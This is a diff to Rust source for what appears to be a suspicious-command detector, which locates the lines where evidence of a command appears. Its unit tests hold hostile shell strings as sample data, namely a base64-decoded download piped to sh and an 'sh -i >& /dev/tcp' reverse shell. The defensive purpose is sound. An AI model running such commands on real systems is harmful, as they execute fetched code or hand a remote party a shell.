@@ -28,8 +28,11 @@ impl Script {
     /// Nothing where no line holds half of them: evidence may have been decoded or put together. Nothing either where
     /// the lines would say no more than the evidence does.
     pub(super) fn around(text: &str, evidence: &str) -> Option<Self> {
-        let words: Vec<&str> = evidence
-            .split(|character: char| character.is_whitespace() || matches!(character, '…' | '\'' | '"'))
+        // Without a remark in front such as `(decoded) `, and as words, since redirections are set apart differently.
+        let remark = evidence.strip_prefix('(').and_then(|rest| rest.split_once(") "));
+        let words: Vec<&str> = remark
+            .map_or(evidence, |(_, rest)| rest)
+            .split(|character: char| character.is_whitespace() || "…'\"<>|&".contains(character))
             .filter(|word| word.len() >= MIN_WORD)
             .collect();
         let lines = SafeText::lines(text, MAX_LINE);
@@ -76,6 +79,11 @@ mod tests {
         assert_eq!(shown("curl x", "curl x"), None);
         assert_eq!(shown("if a; then curl x; fi", "curl x").map(|script| script.1), Some(0));
         assert_eq!(shown("echo Y3VybCB4 | base64 -d | sh", "decoded words that stand nowhere"), None);
+        assert_eq!(
+            shown("a\nsh -i >& /dev/tcp/h/1", "(written to a file) sh -i >&/dev/tcp/h/1")
+                .map(|script| script.1),
+            Some(1)
+        );
         assert_eq!(shown("", "x"), None);
     }
 
